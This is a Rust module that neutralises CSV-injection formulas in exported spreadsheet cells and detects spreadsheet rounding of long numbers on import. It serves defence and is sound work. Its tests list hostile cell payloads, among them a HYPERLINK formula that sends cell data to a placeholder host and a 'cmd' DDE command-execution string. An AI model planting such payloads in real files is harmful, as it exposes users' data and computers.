//! Cells of exported and imported tables. Spreadsheets run cells that begin like a formula, so typed text could execute
//! on the reader's computer (CSV injection): such cells get a leading apostrophe, which is removed on import.
//! Spreadsheets also reduce numbers to 15 digits; such losses are detected on import.

use std::borrow::Cow;

use super::text::fold;

/// First characters that start a formula, in every width.
const ACTS: &[char] =
    &['=', '+', '-', '@', '\t', '\r', '\n', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '｜', '％'];
/// Characters that some spreadsheets skip before these.
const PASSED_OVER: &[char] =
    &[' ', '\u{A0}', '\u{3000}', '\u{FEFF}', '\u{200B}', '\u{200E}', '\u{200F}', '\u{202D}', '\u{202C}'];

/// A number, which is not escaped: sign, digits, point, exponent.
fn is_number(cell: &str) -> bool {
    let plain = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    plain.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && plain.chars().all(|c| c.is_ascii_digit() || ".eE+-".contains(c))
        && plain.parse::<f64>().is_ok()
}

fn acts(cell: &str) -> bool {
    cell.trim_start_matches(PASSED_OVER).starts_with(ACTS) && !is_number(cell)
}

/// The escaped cell; [`restored`] is the inverse.
#[must_use]
pub fn neutral(cell: &str) -> Cow<'_, str> {
    if acts(cell.trim_start_matches('\'')) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell without the escape.
#[must_use]
pub fn restored(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| acts(rest.trim_start_matches('\''))).unwrap_or(cell)
}

/// Digits of a number that a spreadsheet stores.
const KEPT: usize = 15;

/// Whether a spreadsheet wrote this number with an exponent (2.02611E+17), which loses digits.
#[must_use]
pub fn is_scientific(cell: &str) -> bool {
    let folded = fold(cell);
    let Some((number, exponent)) = folded.split_once('e') else { return false };
    let (whole, part) = number.split_once('.').unwrap_or((number, ""));
    let power = exponent.strip_prefix('+').unwrap_or(exponent);
    let digits = |text: &str| text.chars().all(|c| c.is_ascii_digit());
    // 2E17 may be an id; spreadsheets write a point or a sign.
    let of_a_sheet = number.contains('.') || exponent.starts_with('+');
    of_a_sheet && !whole.is_empty() && !power.is_empty() && [whole, part, power].into_iter().all(digits)
}

/// The end of a number of more than 15 digits.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Rounded {
    /// Ends with a digit that a spreadsheet would have lost.
    Not,
    /// Ends with exactly the zeros that a spreadsheet writes for lost digits; their number.
    To(usize),
}

/// Checks the end of a number of more than 15 digits; `None` for other text. A single number may really end in zeros, a
/// whole column hardly.
#[must_use]
pub fn zeros_for_digits(cell: &str) -> Option<Rounded> {
    let folded = fold(cell);
    if folded.len() <= KEPT || !folded.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    let rest = &folded[KEPT..];
    Some(if rest.bytes().all(|b| b == b'0') { Rounded::To(rest.len()) } else { Rounded::Not })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_looks_like_a_formula_is_text_and_a_number_stays_a_number() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            " =1+1",
            "\u{3000}＝1",
            "\u{FEFF}=1",
            "-",
            "--5",
            "+86 138 1234 1234",
            "-3.5-2",
            "|x",
            "%0A",
        ] {
            let safe = neutral(formula);
            assert!(safe.starts_with('\''), "{formula:?} → {safe:?}");
            assert_eq!(restored(&safe), formula);
        }
        for plain in [
            "",
            "-3.5",
            "+8613812341234",
            "-1e6",
            "0.5",
            "王秀英",
            "3-2-501",
            "a=b",
            "'",
            "it's",
            "'x",
            "51011701900600901",
        ] {
            assert_eq!(neutral(plain), plain);
            assert_eq!(restored(plain), plain);
        }
    }

    #[test]
    fn a_number_that_a_sheet_wrote_with_an_exponent_has_lost_its_digits() {
        for lost in ["2.02611E+17", "5.10117e+17", "1E+05", "2.0E17", "２.02611E+17", "5.10117019006009E+16"] {
            assert!(is_scientific(lost), "{lost}");
        }
        for kept in ["202611090001", "2E17", "E+5", "1.5", "12E5A", "", "1.2.3E+5", "GD2.5E+1x", "-1.5E+3"] {
            assert!(!is_scientific(kept), "{kept}");
        }
    }

    #[test]
    fn zeros_after_the_fifteenth_digit_are_counted() {
        assert_eq!(zeros_for_digits("510117196005061000"), Some(Rounded::To(3)));
        assert_eq!(zeros_for_digits("20261109000123000"), Some(Rounded::To(2)));
        assert_eq!(zeros_for_digits("20261109000123450"), Some(Rounded::Not));
        for other in ["202611090001230", "51011719600506100X", "GD20261109000123000", ""] {
            assert_eq!(zeros_for_digits(other), None, "{other}");
        }
    }

    proptest! {
        #[test]
        fn what_leaves_never_acts_and_comes_back_as_it_was(cell in "['=+@\\- \t\u{3000}＝a1.e]{0,6}|.{0,12}") {
            let safe = neutral(&cell);
            prop_assert!(!acts(&safe));
            prop_assert_eq!(restored(&safe), cell.as_str());
        }
    }
}
